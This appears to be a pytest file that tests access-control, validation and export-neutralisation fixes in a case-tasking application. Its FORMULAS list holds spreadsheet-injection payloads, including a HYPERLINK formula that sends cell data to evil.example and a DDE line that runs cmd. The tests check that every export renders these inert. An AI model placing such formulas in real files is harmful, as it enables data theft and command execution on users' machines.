"""Issue 21, the outside probe's findings on rules, identities and imports: each refusal is the
usual one (`Forbidden`, exit 3 / HTTP 403) and is in the access log. Real stores, both backends."""

from __future__ import annotations

import datetime as dt

import pytest
from pydantic import ValidationError

from tasking.bootstrap import Services
from tasking.commands import (
    AddUser,
    CompleteTasking,
    EnrolUser,
    IssueToken,
    RaiseTasking,
    RecordFollowUp,
    RedeemEnrolment,
    RevokeToken,
    send,
)
from tasking.commands.setup import ChangeRole
from tasking.commands.tokens import expiry, new_token, token_hash
from tasking.errors import DomainError
from tasking.domain.permissions import Forbidden
from tasking.time.instants import utcnow
from tests.conftest import Desk, at


def refused(services: Services) -> list[dict]:
    services.catch_up()
    return [
        dict(r) for r in services.open_views().db.query("SELECT * FROM access_log WHERE refused = 1 ORDER BY position")
    ]


def _token_for(services: Services, login: str, by: str) -> dict:
    _, digest = new_token(login)
    now = utcnow()
    return send(services.app, IssueToken(user=by, at=now, login=login, token_hash=digest, expires_at=expiry(now, 30)))


class TestImpersonation:
    """Item 7: no one changes their own role; a working token is issued only to its own user."""

    def test_an_admin_cannot_make_themselves_coordinator(self, desk: Desk, services: Services) -> None:
        desk.send(AddUser, login="keeper", name="Kim Keeper", agency="COUNCIL", role="admin")
        with pytest.raises(Forbidden, match="no one changes their own role"):
            desk.send(ChangeRole, user="keeper", login="keeper", role="coordinator", reason="Promote myself")
        assert services.app.get_user("keeper").role == "admin"
        assert refused(services)[-1]["user"] == "keeper" and refused(services)[-1]["action"] == "users role"

    def test_a_role_change_names_who_made_it(self, desk: Desk, services: Services) -> None:
        desk.send(ChangeRole, login="sgt.jones", role="analyst", reason="New post")
        services.catch_up()
        change = (
            services.open_views().db.execute("SELECT by, role FROM user_changes WHERE login = 'sgt.jones'").fetchone()
        )
        assert tuple(change) == ("coordinator", "analyst")

    @pytest.mark.parametrize("by", ["coordinator", "keeper"])
    def test_no_one_is_issued_a_token_in_someone_else_s_name(self, desk: Desk, services: Services, by: str) -> None:
        desk.send(AddUser, login="keeper", name="Kim Keeper", agency="COUNCIL", role="admin")
        with pytest.raises(Forbidden, match="a token is issued only to its own user"):
            _token_for(services, "sgt.jones", by=by)
        user = services.app.repository.get(services.app.get_user("sgt.jones").id)
        assert user.tokens == {}
        assert refused(services)[-1]["user"] == by

    def test_a_user_issues_their_own_token_and_the_event_names_them(self, people, services: Services) -> None:
        assert _token_for(services, "sgt.jones", by="sgt.jones")["token"] == "K1"
        events = list(services.app.events.get(services.app.get_user("sgt.jones").id))
        assert type(events[-1]).__name__ == "TokenIssued" and events[-1].user == "sgt.jones"

    def test_an_enrolled_user_redeems_the_code_once_for_their_own_token(self, people, services: Services) -> None:
        app, now = services.app, utcnow()
        code, code_digest = new_token("sgt.jones", kind="enr")
        send(
            app,
            EnrolUser(user="coordinator", at=now, login="sgt.jones", code_hash=code_digest, expires_at=expiry(now, 7)),
        )
        token, digest = new_token("sgt.jones")
        redeem = dict(
            at=now, login="sgt.jones", code_hash=token_hash(code), token_hash=digest, expires_at=expiry(now, 30)
        )
        with pytest.raises(Forbidden, match="redeemed only by sgt.jones"):
            send(app, RedeemEnrolment(user="coordinator", **redeem))
        assert send(app, RedeemEnrolment(user="sgt.jones", **redeem))["token"] == "K1"
        with pytest.raises(DomainError, match="no unused, unexpired enrolment code"):
            send(app, RedeemEnrolment(user="sgt.jones", **{**redeem, "token_hash": new_token("sgt.jones")[1]}))
        events = list(app.events.get(app.get_user("sgt.jones").id))
        enrolled = next(e for e in events if type(e).__name__ == "Enrolled")
        assert enrolled.user == "coordinator" and events[-1].user == "sgt.jones"
        assert code not in str(vars(enrolled)) and token not in str(vars(events[-1]))

    def test_managing_another_user_s_token_is_refused_and_logged(self, people, services: Services) -> None:
        _token_for(services, "warden.grange", by="warden.grange")
        with pytest.raises(Forbidden, match="may manage only their own tokens"):
            send(services.app, RevokeToken(user="sgt.jones", at=utcnow(), login="warden.grange"))
        last = refused(services)[-1]
        assert (last["user"], last["action"]) == ("sgt.jones", "users token")
        assert "tsk." not in last["what"]


def test_only_the_tasked_agency_or_a_coordinator_completes_a_tasking(desk: Desk, services: Services) -> None:
    """Item 22: POLICE received the case, WARDENS are tasked: the POLICE officer may not complete it."""
    case = desk.report("2018-03-02T10:00", source="POLICE")
    tasking = desk.send(RaiseTasking, case=case, agency="WARDENS", action="Patrol", due=dt.date(2018, 3, 9))["tasking"]
    with pytest.raises(Forbidden, match=f"{tasking} is tasked to WARDENS, not POLICE"):
        desk.send(CompleteTasking, user="sgt.jones", case=case, tasking=tasking, result="Done")
    assert refused(services)[-1]["user"] == "sgt.jones"
    desk.send(RecordFollowUp, user="sgt.jones", case=case, kind="visit", outcome="Spoke to them")  # still own
    desk.send(CompleteTasking, user="warden.grange", case=case, tasking=tasking, result="Done")


@pytest.mark.parametrize(
    "login", ["sgt.jones\u200b", "sgt\u202ejones", "sgt\x1b[31mjones", "Sgt.Jones", "sgt jones", "sgt.jönes"]
)
def test_a_login_is_lower_case_letters_digits_dots_underscores_and_hyphens(desk: Desk, login: str) -> None:
    """Item 18: control, bidi and zero-width characters (and capitals, spaces) are refused."""
    with pytest.raises(ValidationError, match="a login is 1 to 64 of a-z, 0-9"):
        AddUser(user="coordinator", at=at("2018-03-05T10:00"), login=login, name="N", agency="POLICE", role="officer")
    desk.send(AddUser, login="pc_1.fry-2", name="Jo Fry", agency="POLICE", role="officer")


@pytest.mark.parametrize("user", [None, "nobody"])
def test_an_unknown_or_missing_user_is_refused_and_logged(people, services: Services, user: str | None) -> None:
    """Item 19: the refusal is in the access log (the login given, never a token)."""
    before = len(refused(services))
    with pytest.raises(DomainError, match="user"):
        services.read(user=user, action="cases")
    with pytest.raises(DomainError, match="user"):
        send(services.app, RevokeToken(user=user or "-", at=utcnow(), login="sgt.jones"))
    rows = refused(services)[before:]
    assert [(r["action"], r["user"], r["role"]) for r in rows] == [
        ("cases", user or "-", "-"),
        ("users token", user or "-", "-"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "Call her on ０７７００ ９００１２３",
        "Ring 0 7 7 0 0 9 0 0 1 2 3",
        "Ring 01732-000-000",
        "Email jo[at]example.com",
        "Email jo (at) example (dot) com",
        "Mail ｊｏ＠ｅｘａｍｐｌｅ．ｃｏｍ",
    ],
)
def test_the_contact_details_screen_sees_through_full_width_spacing_and_at(desk: Desk, text: str) -> None:
    """Item 20: the text is normalised (NFKC, separators between digits dropped, [at]/(at)) first."""
    case = desk.report("2018-03-02T10:00")
    with pytest.raises(ValidationError, match="looks like contact details"):
        RecordFollowUp(user="coordinator", at=at("2018-03-05T10:00"), case=case, kind="visit", outcome=text)
    desk.send(RecordFollowUp, case=case, kind="visit", outcome="Seen at 10.30 on 01/03/2018, 3 youths, 2 calls")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_never_carry_a_live_formula_and_xlsx_dates_are_dates(
    desk: Desk, services: Services, tmp_path, fmt: str
) -> None:
    """Item 27: OWASP's rule (a single quote before = + - @ tab CR) in every CSV and XLSX export."""
    import csv

    import openpyxl

    from tasking.interchange.export import export

    cases = {desk.report("2018-03-02T10:00", location=location): location for location in FORMULAS}
    out = tmp_path / f"cases.{fmt}"
    export(services.read(user="coordinator", action="export"), "cases", fmt, out)
    if fmt == "csv":
        with out.open(encoding="utf-8", newline="") as found:
            rows = {row["case"]: row for row in csv.DictReader(found)}
        cells = {case: rows[case]["location"] for case in cases}
        assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells.values())
    else:
        sheet = openpyxl.load_workbook(out)["cases"]
        header = [cell.value for cell in sheet[1]]
        rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
        assert all(rows[case]["location"].data_type == "s" for case in cases)
        cells = {case: rows[case]["location"].value for case in cases}
        received = rows[next(iter(cases))]["received_at"]
        assert received.is_date and received.value == dt.datetime(2018, 3, 2, 10, 0)  # UTC (GMT in March)
    assert cells == {case: "'" + location.strip() for case, location in cases.items()}  # shown as typed, inert


def test_a_text_cell_is_neutralised_and_a_number_is_left_alone() -> None:
    from tasking.interchange.cells import neutral, xlsx_value

    assert [neutral(v) for v in ("\t=1", "\r=1", "-x", "Azalea Shops", -3, 2.5, None)] == [
        "'\t=1",
        "'\r=1",
        "'-x",
        "Azalea Shops",
        -3,
        2.5,
        None,
    ]
    assert xlsx_value("2018-03-09") == dt.date(2018, 3, 9)
    assert xlsx_value("2018-07-01T08:00:00+01:00") == dt.datetime(2018, 7, 1, 7, 0)


@pytest.mark.parametrize(
    ("text", "cli_text", "rule"),
    [
        (
            "25/03/2018 01:30",
            "2018-03-25T01:30",
            "does not exist in Europe/London: the clocks go forward from 01:00 to 02:00",
        ),
        ("29/10/2017 01:30", "2017-10-29T01:30", "happens twice in Europe/London (the clocks go back)"),
    ],
)
@pytest.mark.parametrize("cell", ["text", "spreadsheet date"])
def test_an_imported_time_in_the_spring_gap_or_autumn_overlap_is_refused_as_the_cli_refuses_it(
    people, services: Services, text: str, cli_text: str, rule: str, cell: str
) -> None:
    """Item 28: one rule for every way in (`tasking.time.instants.wall_clock`), with the CLI's message."""
    from pathlib import Path

    from tasking.interchange.partner_import import Mapping, prepare
    from tasking.time.instants import parse_datetime

    mapping = Mapping.load(Path(__file__).resolve().parents[2] / "examples" / "housing-import.toml")
    value = text if cell == "text" else dt.datetime.strptime(text, "%d/%m/%Y %H:%M")
    row = {
        "Case No": "WK-1",
        "Date Reported": value,
        "ASB Type": "Noise",
        "Parish": "Edenbridge",
        "Street": "1 Azalea Drive",
        "Summary": "Loud music",
        "Risk": "Low",
    }
    errors = prepare(2, row, mapping, services.app.config, None, "coordinator")
    assert isinstance(errors, list), "the row was accepted"
    [error] = [e for e in errors if e.column == "Date Reported"]
    with pytest.raises(DomainError) as cli:
        parse_datetime(cli_text, "received")
    assert rule in error.rule and rule in str(cli.value)
    assert error.rule.split("' ", 1)[1] == str(cli.value).split("' ", 1)[1]  # the same words after the value
